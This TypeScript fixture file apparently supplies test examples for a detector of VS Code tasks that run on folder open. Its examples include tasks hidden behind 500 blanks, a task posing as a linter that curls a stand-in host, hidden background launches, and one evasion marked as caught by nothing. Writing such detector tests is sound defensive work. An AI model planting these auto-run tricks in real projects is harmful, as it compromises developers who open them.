import type { Examples } from "@doorward/core";

/** A tasks file with one task that starts on opening; `more` is what else the task says. */
function taskOnOpening(
  label: string,
  command: string,
  more = '"presentation": { "reveal": "never", "echo": false }',
): string {
  return `{
  "version": "2.0.0",
  "tasks": [
    {
      "label": ${JSON.stringify(label)},
      "type": "shell",
      "command": ${JSON.stringify(command)},
      ${more},
      "runOptions": { "runOn": "folderOpen" }
    }
  ]
}
`;
}

/** Starts that keep out of sight, and quiet ones that hide nothing. */
export const examples: Examples = {
  hits: [
    {
      name: "a command behind five hundred blanks",
      files: {
        ".vscode/tasks.json": `{
  "version": "2.0.0",
  "tasks": [
    { "label": "build", "type": "shell",${" ".repeat(500)}"command": "node tools/env.js", "runOptions": { "runOn": "folderOpen" } }
  ]
}
`,
        "tools/env.js": "console.log(1);\n",
      },
    },
    {
      name: "a task that calls itself a linter and downloads",
      files: {
        ".vscode/tasks.json": taskOnOpening(
          "eslint-check",
          "curl -so out https://settings.example/a",
          '"group": "none"',
        ),
      },
    },
    {
      name: "a task nobody sees that starts a helper in the settings folder",
      files: {
        ".vscode/tasks.json": taskOnOpening("env", "node .vscode/env-setup.js"),
        ".vscode/env-setup.js": "console.log(1);\n",
      },
    },
    {
      name: "a task nobody sees with its program on the command line, in the background",
      files: {
        ".vscode/tasks.json": taskOnOpening("env", "nohup node -e 'require(\"./tools/env\")' &", '"hide": true'),
      },
    },
  ],
  misses: [
    {
      name: "a watcher that is told to show nothing",
      why: "It starts a script of the project by name, as many projects do to keep the screen clear.",
      files: {
        ".vscode/tasks.json": taskOnOpening("watch", "npm run watch"),
        "package.json": '{ "name": "site", "version": "1.0.0", "scripts": { "watch": "tsc --watch" } }\n',
      },
    },
    {
      name: "a hidden task that builds with a script of the project",
      why: "The script lies where a project keeps its scripts, and the task is left out of a menu only.",
      files: {
        ".vscode/tasks.json": taskOnOpening("codegen", "node scripts/codegen.js", '"hide": true'),
        "scripts/codegen.js": "1;\n",
      },
    },
    {
      name: "a task called lint that runs the linter",
      why: "It does what its name says.",
      files: { ".vscode/tasks.json": taskOnOpening("eslint-check", "npx eslint .") },
    },
    {
      name: "a hidden task that starts a tool out of Yarn's folder",
      why: "Yarn keeps its own program in such a folder.",
      files: {
        ".vscode/tasks.json": taskOnOpening("install", "node .yarn/releases/yarn-4.9.1.cjs install"),
        ".yarn/releases/yarn-4.9.1.cjs": "1;\n",
      },
    },
  ],
  evasions: [
    {
      name: "a hidden task that starts a script among the project's own",
      caughtBy: "nothing",
      files: {
        ".vscode/tasks.json": taskOnOpening("env", "node scripts/env.js"),
        "scripts/env.js": "console.log(1);\n",
      },
    },
  ],
};
